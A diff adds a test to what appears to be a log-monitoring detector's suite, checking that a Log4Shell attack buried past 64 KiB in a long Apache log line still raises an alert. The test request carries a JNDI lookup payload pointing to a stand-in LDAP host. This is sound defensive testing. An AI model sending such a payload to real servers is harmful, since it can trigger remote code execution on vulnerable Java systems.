@@ -149,3 +149,25 @@ def test_raw_copies_are_0640_in_0750_directories_group_adm(chain: Chain) -> None
     for path, mode in ((host_dir, 0o750), (raw, 0o640)):
         info = path.stat()
         assert (stat.S_IMODE(info.st_mode), info.st_gid) == (mode, adm), path
+
+
+@pytest.mark.xfail(
+    strict=True,
+    reason="lead: [input] max_line_bytes (defaults.toml) is 65536; the program reads only the "
+    "first 64 KiB of a longer line, so it must be at least rsyslog_setup.MAX_MESSAGE_SIZE",
+)
+def test_an_attack_past_64k_in_the_longest_line_is_found(live: LiveChain) -> None:
+    """The drop-ins deliver lines up to 128 KiB whole; the program must read them whole too."""
+    assert live.apache is not None
+    attacker = _unique_ip()
+    pad = b"\xff" * 8000  # logged as 32,000 characters
+    request = (
+        b"GET /index.html?q=" + pad + b" HTTP/1.1\r\nHost: lab\r\nReferer: " + pad
+        + b"\r\nUser-Agent: " + pad[:4000] + b"${jndi:ldap://198.51.100.9/a}\r\n\r\n"
+    )  # fmt: skip
+    assert _raw_request(live.apache.port, attacker, request) == b"HTTP/1.1 200 OK"
+    line = _logged(live.apache.access_log, attacker)
+    assert line.index("${jndi:") > 65_536
+    _wait_raw_copy(live, line)
+    alerts = live.wait_alerts(f"LWSYSLOG_CLIENT_IP={attacker}", timeout=15)
+    assert "log4shell" in {a["LWSYSLOG_CATEGORY"] for a in alerts}
